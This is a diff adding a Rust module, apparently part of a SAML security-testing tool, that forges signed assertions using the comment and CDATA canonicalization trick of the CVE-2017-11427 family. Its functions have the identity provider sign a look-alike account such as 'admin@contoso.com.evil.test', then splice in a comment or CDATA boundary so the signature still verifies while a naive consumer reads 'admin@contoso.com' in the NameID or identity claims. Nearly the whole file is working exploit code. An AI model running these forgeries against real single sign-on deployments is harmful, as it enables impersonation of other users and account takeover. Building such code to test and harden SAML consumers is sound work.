@@ -1,0 +1,98 @@
+//! Text and canonicalization: the IdP signs the attacker's own look-alike account
+//! (`admin@contoso.com.evil.test`), then a comment or CDATA boundary is placed so that exclusive
+//! C14N (and so the signature) is unchanged while a consumer reading only the first text node
+//! sees the target (`admin@contoso.com`).
+
+use crate::bytes::{splice, Doc, ASSERTION_NS};
+use crate::crypto::idp_resign;
+use crate::forge::{Forge, Forged, Skip};
+use crate::identity::{self, is_identity_claim, Swap};
+
+/// The domain suffix that makes the attacker's account look like the target.
+const LOOKALIKE_SUFFIX: &str = ".evil.test";
+
+/// Where to cut identity values.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Place {
+    NameId,
+    Claims,
+}
+
+/// The seed re-issued by the IdP for the attacker's look-alike account, then `split` applied
+/// to each chosen value at the end of the target part.
+fn lookalike(f: &Forge, place: Place, split: fn(&str) -> String) -> Result<Forged, Skip> {
+    let key = f.idp_key()?;
+    let doc = Doc::parse(f.seed)?;
+    let targets = |v: &str| identity::target_of(v).contains('@');
+    let (edits, _) = identity::rewrite_edits(&doc, 0..doc.src.len(), &|v| {
+        if targets(v) {
+            format!("{}{LOOKALIKE_SUFFIX}", identity::target_of(v))
+        } else {
+            v.to_owned()
+        }
+    });
+    let account = splice(doc.src, edits);
+    let signed = idp_resign(&account, key)?;
+    let doc = Doc::parse(&signed)?;
+    let mut swap = Swap::default();
+    let mut edits = Vec::new();
+    for text in doc.tree.descendants().filter(|n| n.is_text()) {
+        let Some(parent) = text.parent_element() else {
+            continue;
+        };
+        let chosen = match place {
+            Place::NameId => parent.has_tag_name((ASSERTION_NS, "NameID")),
+            Place::Claims => {
+                parent.has_tag_name((ASSERTION_NS, "AttributeValue"))
+                    && parent
+                        .parent_element()
+                        .and_then(|a| a.attribute("Name"))
+                        .is_some_and(is_identity_claim)
+            }
+        };
+        let value = text.text().unwrap_or_default();
+        let Some(target) = value.strip_suffix(LOOKALIKE_SUFFIX) else {
+            continue;
+        };
+        if !chosen {
+            continue;
+        }
+        if !swap.genuine.iter().any(|g| g == value) {
+            swap.genuine.push(value.to_owned());
+            swap.forged.push(target.to_owned());
+        }
+        edits.push((text.range(), split(target)));
+    }
+    if edits.is_empty() {
+        return Err(Skip(
+            "the seed has no e-mail-shaped identity value to imitate".into(),
+        ));
+    }
+    Ok(Forged {
+        xml: splice(&signed, edits),
+        swap,
+    })
+}
+
+fn comment(target: &str) -> String {
+    format!("{target}<!---->{LOOKALIKE_SUFFIX}")
+}
+
+fn cdata(target: &str) -> String {
+    format!("<![CDATA[{target}]]>{LOOKALIKE_SUFFIX}")
+}
+
+/// `admin@contoso.com<!---->.evil.test` in NameID (CVE-2017-11427 family).
+pub fn comment_name_id(f: &Forge) -> Result<Forged, Skip> {
+    lookalike(f, Place::NameId, comment)
+}
+
+/// The same comment in the identity claims (emailaddress, name/UPN).
+pub fn comment_claims(f: &Forge) -> Result<Forged, Skip> {
+    lookalike(f, Place::Claims, comment)
+}
+
+/// `<![CDATA[admin@contoso.com]]>.evil.test` in NameID.
+pub fn cdata_name_id(f: &Forge) -> Result<Forged, Skip> {
+    lookalike(f, Place::NameId, cdata)
+}
